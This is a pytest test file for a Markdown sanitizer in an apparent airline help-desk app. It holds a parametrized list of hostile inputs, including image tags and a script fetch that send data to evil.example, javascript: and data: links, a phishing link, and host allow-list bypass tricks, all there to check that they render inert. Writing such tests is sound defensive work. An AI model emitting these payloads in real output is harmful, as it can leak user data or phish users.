"""ui/safe_text.py: what untrusted Markdown becomes. Each hostile form is re-parsed the way a
renderer would read it (tests/security/inert.py): no image, no raw HTML, no link off the
allow-list, no bare URL a renderer would link by itself; ordinary formatting survives."""

from __future__ import annotations

import pytest

from config import Settings
from tests.security.inert import assert_inert
from ui.safe_text import allowed_link, code, literal, one_line, safe_markdown

HOSTS = frozenset({"alpine-air.example"})
EVIL = "evil.example"


def safe(text: str) -> str:
    return safe_markdown(text, hosts=HOSTS)


HOSTILE = {
    "inline image": "![x](http://evil.example/p.png?e=anna@example.com)",
    "image with title": '![x](http://evil.example/p.png "t")',
    "reference image": "![x][pic]\n\n[pic]: http://evil.example/p.png",
    "collapsed reference image": "![pic][]\n\n[pic]: <http://evil.example/p.png>",
    "image inside a link": "[![x](http://evil.example/p.png)](http://evil.example/go)",
    "image in a list": "- one\n- ![x](http://evil.example/p.png)",
    "image in a table": "| a |\n|---|\n| ![x](http://evil.example/p.png) |",
    "image in a heading": "# ![x](http://evil.example/p.png)",
    "image in a quote": "> ![x](http://evil.example/p.png)",
    "image in emphasis": "**![x](http://evil.example/p.png)**",
    "raw img": '<img src="http://evil.example/p.png">',
    "uppercase img": "<IMG SRC=http://evil.example/p.png>",
    "inline img after text": 'Done.<img src="http://evil.example/p.png?e=a@b.example">',
    "img html block": '<div>\n<img src="http://evil.example/p.png">\n</div>',
    "script": "<script>fetch('http://evil.example')</script>",
    "entity img": "&lt;img src=http://evil.example/p.png&gt;",
    "numeric entity img": "&#60;img src=x&#62;",
    "double entity": "&amp;lt;img src=x&amp;gt;",
    "phishing link": "[Reset your password](http://evil.example/login)",
    "link with title": '[a](http://evil.example "Alpine Air")',
    "reference link": "[a][r]\n\n[r]: http://evil.example",
    "javascript link": "[a](javascript:alert(1))",
    "uppercase javascript": "[a](JAVASCRIPT:alert(1))",
    "entity javascript": "[a](jav&#x61;script:alert(1))",
    "data url": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "protocol-relative": "[a](//evil.example)",
    "relative": "[a](/logout)",
    "allowed host as userinfo": "[a](https://alpine-air.example@evil.example)",
    "allowed host as prefix": "[a](https://alpine-air.example.evil.example)",
    "allowed host in path": "[a](https://evil.example/alpine-air.example)",
    "lookalike host": "[a](https://alpine-air-example.com)",
    "ftp": "[a](ftp://alpine-air.example/x)",
    "backslash host": "[a](https://evil.example\\@alpine-air.example)",
    "uppercase scheme off-list": "[a](HTTPS://EVIL.EXAMPLE/x)",
    "autolink": "<http://evil.example/x>",
    "email autolink": "<anna@evil.example>",
    "bare url": "go to https://evil.example/x now",
    "bare www": "see www.evil.example/x",
    "bare email": "mail anna@evil.example",
    "url in emphasis": "*https://evil.example*",
    "streamlit colour": ":red[alert] :red-background[x]",
    "streamlit icon": ":material/warning: Security notice",
    "latex": "$\\href{http://evil.example}{x}$ and $$\\int$$",
    "footnote": "text[^1]\n\n[^1]: http://evil.example",
    "nested brackets": "[[a](http://evil.example)](http://evil.example)",
    "unclosed image while streaming": "![x](http://evil.example/p.png?e=",
    "html comment": "<!-- ![x](http://evil.example/p.png) -->",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_becomes_inert(text: str) -> None:
    assert_inert(safe(text), HOSTS)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_literal_and_one_line_are_inert(text: str) -> None:
    assert_inert(literal(text, hosts=HOSTS), HOSTS)
    assert_inert(one_line(text, hosts=HOSTS), HOSTS)
    assert "\n" not in one_line(text, hosts=HOSTS)


def test_an_image_is_its_alt_text_and_nothing_of_its_url() -> None:
    out = safe("Look: ![your boarding pass](http://evil.example/p.png?e=anna@example.com)")
    assert out == "Look: your boarding pass"


def test_a_foreign_link_is_its_text_and_the_url_as_code() -> None:
    assert safe("[Reset](http://evil.example/login)") == "Reset (`http://evil.example/login`)"
    assert safe("<http://evil.example/x>") == "`http://evil.example/x`"
    assert safe("see https://evil.example/x.") == "see `https://evil.example/x`."


def test_raw_html_is_shown_as_text() -> None:
    assert safe("a <img src=x> b") == "a \\<img src=x\\> b"


@pytest.mark.parametrize(
    "url",
    [
        "https://alpine-air.example/help",
        "http://alpine-air.example",
        "https://www.alpine-air.example/x?y=1",
        "HTTPS://Help.Alpine-Air.Example/x",
    ],
)
def test_allow_listed_links_stay_links(url: str) -> None:
    out = safe(f"[help]({url})")
    assert out.startswith("[help](") and "`" not in out, out
    assert_inert(out, HOSTS)


@pytest.mark.parametrize(
    "url",
    [
        "https://alpine-air.example@evil.example",
        "https://user:pw@alpine-air.example/",
        "https://alpine-air.example.evil.example",
        "javascript://alpine-air.example/%0aalert(1)",
        "//alpine-air.example",
        "https://alpine-air.example\\@evil.example",
        "https://alpine-air.examplé",
    ],
)
def test_allowed_link_refuses_tricks(url: str) -> None:
    assert not allowed_link(url, HOSTS)


def test_the_allow_list_comes_from_the_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    settings = Settings(link_allowlist=" Alpine-Air.example, *.partner.example ,,")
    assert settings.link_hosts == frozenset({"alpine-air.example", "partner.example"})
    assert Settings().link_hosts == frozenset({"alpine-air.example"})
    monkeypatch.setenv("SKYDESK_LINK_ALLOWLIST", "help.example")
    assert Settings().link_hosts == frozenset({"help.example"})


FORMATTING = [
    "Hello **bold**, *em*, ~~gone~~ and `code`",
    "- one\n- two\n  - nested",
    "1. first\n2. second",
    "3. starts at three\n4. four",
    "| Flight | Time |\n| :--- | ---: |\n| AL 100 | 07:10 |",
    "# Heading\n\ntext",
    "> quoted\n>\n> still quoted",
    "```python\nprint('![x](http://evil.example)')\n```",
    "line one  \nline two",
    "CHF 1,234.50 at 10:30, ZRH-LHR (Classic).",
]


@pytest.mark.parametrize("text", FORMATTING)
def test_ordinary_formatting_survives(text: str) -> None:
    assert safe(text) == text


def test_the_text_reads_the_same() -> None:
    """Escapes are invisible in the rendering: the words a person reads are unchanged."""
    assert safe("Rule: 24 h *free* cancel, 2\\. not a list") == (
        "Rule: 24 h *free* cancel, 2. not a list"
    )
    assert safe("2\\. not a list") == "2\\. not a list"
    assert literal("$5 & :red[x] <b>") == "\\$5 & \\:red\\[x\\] \\<b\\>"
    assert literal("- not a list\n1. nor this") == "\\- not a list  \n1\\. nor this"
    # Streamlit rewrites ":material/" before parsing: both the colon and the slash are escaped.
    assert literal(":material/warning: hi") == "\\:material\\/warning: hi"


def test_code_spans_hold_backticks() -> None:
    assert code("a`b") == "``a`b``"
    assert code("`x`") == "`` `x` ``"
    assert safe("``a`b``") == "``a`b``"
